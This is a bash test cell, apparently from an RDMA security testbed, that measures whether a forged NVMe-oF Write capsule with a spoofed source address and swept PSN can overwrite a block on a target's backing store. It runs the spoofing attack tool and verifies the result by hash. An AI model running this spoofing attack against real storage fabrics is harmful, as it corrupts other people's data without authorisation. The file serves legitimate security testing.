# SPDX-License-Identifier: MIT
# NeVerMore 5.2.1 (spoof-request): the attacker on host 3 forges an NVMe-oF
# Write command capsule, its 512 bytes of data in the capsule, into one of
# the target's I/O queue QPs as if from the host (host 2's address, the
# expected PSN read from rdma(8) as the other cells do; rxe checks nothing
# else). Succeeded when the chosen block of the target's backing store holds
# the attacker's bytes and did not before; the host's kernel lines say what
# it made of the target's completion for a command it never sent.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
. "$(dirname "${BASH_SOURCE[0]}")/nvmf.bash"

CELL_SPOOF_PATTERN='NVMF-SPOOFED-BY-RDMASEC-ATTACK '

# _spr_block: the 512 bytes the forged write puts in a block.
_spr_block() {
	local s=$CELL_SPOOF_PATTERN
	while [ ${#s} -lt 512 ]; do s=$s$s; done
	printf '%s' "${s:0:512}"
}

cell_spoof_request() {
	local v=$1 lba want before after line t0
	cell_nvmf_only spoof-request "$v" && return
	cell_nvmf_start spoof-request || return
	# A block past fio's region: it holds the known pattern, nothing else writes it.
	lba=$(((${NVMF_FIO_MIB:-4} + 2) * 2048))
	want=$(_spr_block | sha256sum | cut -d' ' -f1)
	before=$(nvmf_backing_hash "$lba" 1)
	if [ "$before" = "$want" ] || ! cell_nvmf_aim rxe1; then
		matrix_result spoof-request "$v" error "" "block $lba already holds the pattern, or no I/O queue QP on rxe1"
		victim_stop
		return
	fi
	read -r t0 _ </proc/uptime
	fabric on 3 "$ATK" spoof-request --dst "$VICTIM_SERVER_IP" --src "$VICTIM_CLIENT_IP" --qpn "$AIM_QPN" \
		--psn-sweep "$AIM_SWEEP" --slba "$lba" --pattern "$CELL_SPOOF_PATTERN" --iface fab3 --sport 4242 \
		--json >"$CELL/attack.json" 2>"$CELL/attack.err"
	echo "spoof-request exit $? ($AIM_HOW: qpn $AIM_QPN psn $AIM_PSN, lba $lba)" >&2
	for _ in $(seq 1 20); do
		after=$(nvmf_backing_hash "$lba" 1)
		[ "$after" = "$want" ] && break
		sleep 0.2
	done
	for _ in $(seq 1 10); do line=$(cell_nvmf_host_line "$t0") && break; sleep 0.5; done
	victim_attack_done
	[ -n "$line" ] || line="[h2] nothing logged"
	victim_stop
	if [ "$after" = "$want" ]; then
		matrix_result spoof-request "$v" succeeded "" \
			"[h1] $VICTIM_NVMF_BACKING block $lba: attacker's bytes (sha ${after:0:8}, was ${before:0:8}) after a forged Write capsule to QP $AIM_QPN ($AIM_HOW); $line"
	else
		matrix_result spoof-request "$v" error "" \
			"missed: block $lba unchanged (sha ${after:0:8}) after $AIM_HOW to QP $AIM_QPN; $line"
	fi
}
